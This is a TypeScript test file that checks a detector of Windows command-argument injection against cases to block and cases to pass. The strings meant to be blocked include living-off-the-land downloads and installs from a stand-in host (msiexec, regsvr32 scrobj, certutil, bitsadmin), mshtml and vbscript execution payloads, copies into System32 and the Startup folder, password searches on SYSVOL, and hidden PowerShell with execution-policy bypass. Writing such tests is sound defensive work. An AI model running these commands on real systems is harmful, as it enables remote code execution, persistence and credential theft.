import { type ArgCase, runCases } from "./_arginj_testing.ts";

const CASES: ArgCase[] = [
  {
    id: "win.remote_package",
    block: [
      "/i http://x.example/a.msi /qn",
      "/s /n /u /i:http://x.example/f.sct scrobj.dll",
      "/package \\\\10.0.0.5\\s\\p.msi",
    ],
    pass: ["/i setup.msi /qn", "/x {GUID} /quiet", "/i C:\\pkgs\\tool.msi"],
  },
  {
    id: "win.html_application",
    block: [
      'javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
      'vbscript:CreateObject("WScript.Shell").Run("calc")',
    ],
    pass: ["javascript:void(0)", "https://example.com/app.js"],
  },
  {
    id: "win.copy_into_system",
    block: [
      "/MIR C:\\Users\\Public C:\\Windows\\System32",
      '/Y x.exe "C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
    ],
    pass: ["/MIR src dst /R:1 /W:1", "/E C:\\build D:\\backup"],
  },
  {
    id: "win.credential_search",
    block: ["/S /I password C:\\*.config", "/si cpassword \\\\dc01\\sysvol\\*.xml"],
    pass: ["/S /I TODO *.cs", "/N password.txt"],
  },
  {
    id: "win.powershell_hidden",
    block: [
      "-w hidden -ep bypass -File x.ps1",
      "-ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden",
    ],
    pass: ["-NoProfile -File build.ps1", "-ExecutionPolicy Bypass -File .\\setup.ps1"],
  },
  {
    id: "win.lolbin_download",
    block: [
      "-urlcache -split -f http://x.example/a.exe a.exe",
      "/transfer j /download /priority high https://x.example/a.exe C:\\a.exe",
    ],
    pass: ["-hashfile a.exe SHA256", "/list /allusers"],
  },
];

runCases("windows", CASES);
